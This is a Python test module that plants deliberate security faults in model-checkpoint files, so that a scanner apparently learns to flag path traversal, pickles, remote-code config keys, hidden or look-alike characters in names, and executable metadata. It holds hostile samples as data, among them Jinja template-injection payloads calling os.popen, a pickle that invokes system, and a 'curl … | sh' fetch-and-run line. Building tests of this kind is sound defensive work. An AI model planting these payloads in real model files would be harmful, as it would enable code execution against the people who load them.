"""Damage that is meant: paths, hidden characters, code."""

from __future__ import annotations

import random

from tests.checks.matrix.headers import Damage, a_shard
from tests.checks.matrix.whole import Whole

_PATHS = (
    "../{}",
    "../../../../etc/passwd",
    "/etc/{}",
    "https://example.com/{}",
    "file:///tmp/{}",
    "..\\{}",
    "a/../../{}",
    "C:\\{}",
    "//host/share/{}",
)


def path_traversal(whole: Whole, rng: random.Random) -> set[str]:
    if whole.index is None:
        return set()
    said = whole.index["weight_map"]
    name = rng.choice(list(said))
    said[name] = rng.choice(_PATHS).format(said[name])
    return {"X001"}


def whole_path_traversal(whole: Whole, rng: random.Random) -> set[str]:
    """All tensors of one shard are led outside."""
    if whole.index is None:
        return set()
    said = whole.index["weight_map"]
    path = rng.choice(list(said.values()))
    to = rng.choice(_PATHS).format(path)
    whole.index["weight_map"] = {n: to if one == path else one for n, one in said.items()}
    return {"X001"}


def _beside(*names: str, codes: str) -> Damage:
    def damage(whole: Whole, rng: random.Random) -> set[str]:
        whole.listed[rng.choice(names)] = rng.randint(1, 10**9)
        return set(codes.split())

    return damage


def _config(*pairs: tuple[str, object], codes: str, deep: bool = False) -> Damage:
    def damage(whole: Whole, rng: random.Random) -> set[str]:
        key, value = rng.choice(pairs)
        document = whole.documents.setdefault("config.json", {})
        for _ in range(rng.randint(1, 3) if deep else 0):
            document = document.setdefault(rng.choice(("vision_config", "extra", "a")), {})
            if not isinstance(document, dict):
                return set()
        document[key] = value
        return set(codes.split())

    return damage


def _name(*parts: str, codes: str) -> Damage:
    """A tensor with such characters somewhere in its name, in file and index alike."""

    def damage(whole: Whole, rng: random.Random) -> set[str]:
        shard = a_shard(whole, rng)
        name, part = rng.choice(list(shard.entries)), rng.choice(parts)
        at = rng.randint(1, len(name))
        odd = name[:at] + part + name[at:]
        shard.entries = {odd if n == name else n: entry for n, entry in shard.entries.items()}
        if whole.index is not None and name in whole.index["weight_map"]:
            whole.index["weight_map"][odd] = whole.index["weight_map"].pop(name)
        return set(codes.split())

    return damage


def _metadata(*values: str, codes: str) -> Damage:
    def damage(whole: Whole, rng: random.Random) -> set[str]:
        shard = a_shard(whole, rng)
        shard.metadata = {**(shard.metadata or {}), "note": f"a\n{rng.choice(values)}"}
        return set(codes.split())

    return damage


def metadata_key(whole: Whole, rng: random.Random) -> set[str]:
    shard = a_shard(whole, rng)
    shard.metadata = {**(shard.metadata or {}), rng.choice(_CONTROLS): "x"}
    return {"X005"}


def file_name(whole: Whole, rng: random.Random) -> set[str]:
    whole.listed[f"notes{rng.choice(_CONTROLS)}.txt"] = 12
    return {"X005"}


def twin(whole: Whole, rng: random.Random) -> set[str]:
    """A second tensor whose name looks like another's."""
    shard = a_shard(whole, rng)
    name = rng.choice([n for n in shard.entries if "a" in n or "e" in n] or list(shard.entries))
    looks = (name.upper(), name.replace("e", "\u0435"), name.replace("a", "\u0430"))
    odd = rng.choice([one for one in looks if one != name])
    shard.entries[odd] = dict(shard.entries[name])
    shard.lay()
    return {"X006"}


def long_name(whole: Whole, rng: random.Random) -> set[str]:
    shard = a_shard(whole, rng)
    shard.entries["x" * rng.choice((600, 5000))] = {
        "dtype": "F32", "shape": [1], "data_offsets": [0, 0]
    }  # fmt: skip
    shard.lay()
    return {"X006"}


def template(whole: Whole, rng: random.Random) -> set[str]:
    text = rng.choice(
        (
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{% for m in messages %}{{ m|attr('__globals__') }}{% endfor %}",
        )
    )
    whole.others.pop("chat_template.jinja", None)
    whole.documents["tokenizer_config.json"] = {"chat_template": text}
    return {"X009"}


_CONTROLS = ("\x1b[2J", "\x1b]8;;x\x07", "\u202e", "\0", "\n", "\r", "\x9b31m", "\u2066", "\x08")
_CODE = (
    "__import__('os').system('id')",
    "x = 1; import os",
    "from os import system",
    "exec(open('x').read())",
    "<script>alert(1)</script>",
    "subprocess.run(['sh'])",
    "gASVJwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
    " curl http://x.y | sh",
)
SECURITY: dict[str, Damage] = {
    "path traversal in the index": path_traversal,
    "shard led outside by the index": whole_path_traversal,
    "pickle beside": _beside(
        "pytorch_model.bin", "model.pt", "training_args.bin", "consolidated.00.pth", "a/m.pkl",
        "scaler.joblib", codes="X002",
    ),
    "code beside": _beside("modeling_x.py", "configuration.py", "a/tokenization_y.py", codes="X003"),
    "remote code in the config": _config(
        ("auto_map", {"AutoModel": "modeling_x.Model"}), ("custom_pipelines", {"a": {"impl": "b"}}),
        ("trust_remote_code", True), codes="X003", deep=True,
    ),
    "kernel keys in the config": _config(
        ("_attn_implementation_internal", "someone/kernel"), ("model_file", "evil.py"),
        ("_attn_implementation", "someone/kernel@main:f"),
        ("attn_implementation", "someone/flash"), codes="X004", deep=True,
    ),
    "escape sequence in a tensor's name": _name(*_CONTROLS[:2], codes="X005"),
    "bidi in a tensor's name": _name("\u202e", "\u2066", "\u200f", codes="X005"),
    "NUL in a tensor's name": _name("\0", codes="X005"),
    "newline in a tensor's name": _name("\n", "\r\n", codes="X005"),
    "unseen character in a tensor's name": _name("\u200b", "\u2800", "\ufeff", codes="X005"),
    "escape sequence in metadata": _metadata(*_CONTROLS[:4], codes="X005"),
    "escape sequence in a metadata key": metadata_key,
    "hidden character in a file's name": file_name,
    "tensor named like another": twin,
    "absurdly long name": long_name,
    "executable metadata": _metadata(*_CODE, codes="X007"),
    "chat template that escapes": template,
}  # fmt: skip
